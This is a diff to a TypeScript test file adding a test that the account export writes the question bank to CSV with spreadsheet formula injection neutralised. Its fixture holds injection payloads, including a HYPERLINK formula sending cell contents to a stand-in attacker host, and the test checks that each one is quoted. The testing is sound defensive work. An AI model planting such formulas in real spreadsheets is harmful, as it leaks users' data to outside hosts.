@@ -4,6 +4,9 @@ import { User } from '../../auth/auth.user-model';
 import { activeUser, download, postGenerate, upload, type TestUser } from '../../generations/__tests__/helpers';
 import { signupUser, startTestApp, type TestApp } from '../../../testing/testing.app';
 import { chunksWithoutFile, traces } from './account-traces';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { Question } from '../../question-bank/question-bank.model';
+import { QUESTIONS_CSV_HEADERS } from '../account.questions-csv';
 
 let t: TestApp;
 beforeAll(async () => {
@@ -100,6 +103,38 @@ describe('GET /api/account/export', () => {
 
   it('needs a signed-in teacher', async () => {
     expect((await t.http.get('/api/account/export')).status).toBe(401);
+  });
+
+  it('writes the question bank as a spreadsheet with no cell a spreadsheet would run, numbers kept', async () => {
+    const u = await activeUser(t);
+    const owner = (await User.findOne({ email: u.email }).lean())!._id;
+    const link = '=HYPERLINK("https://evil.example/?a="&B2,"Open")';
+    await Question.create({
+      owner,
+      question_text: link,
+      answer_text: '-5',
+      question_type: 'multiple_choice',
+      options: ['-5', '@SUM(A1)'],
+      difficulty: 'easy',
+      subject: '+SUM(1,2)',
+      category: '\t=1+1',
+      tags: ['-x'],
+    });
+    const zip = await JSZip.loadAsync((await download(t, u, '/api/account/export')).body as Buffer);
+    const csv = await zip.file('questions.csv')!.async('string');
+    const [header, row] = parseCsv(csv.replace(/^\uFEFF/, '')) as string[][];
+    expect(header).toEqual(QUESTIONS_CSV_HEADERS);
+    expect(row).toEqual([
+      `'${link}`,
+      '-5',
+      'multiple_choice',
+      "'-5\n@SUM(A1)",
+      'easy',
+      "'+SUM(1,2)",
+      "'\t=1+1",
+      '',
+      "'-x",
+    ]);
   });
 });
 
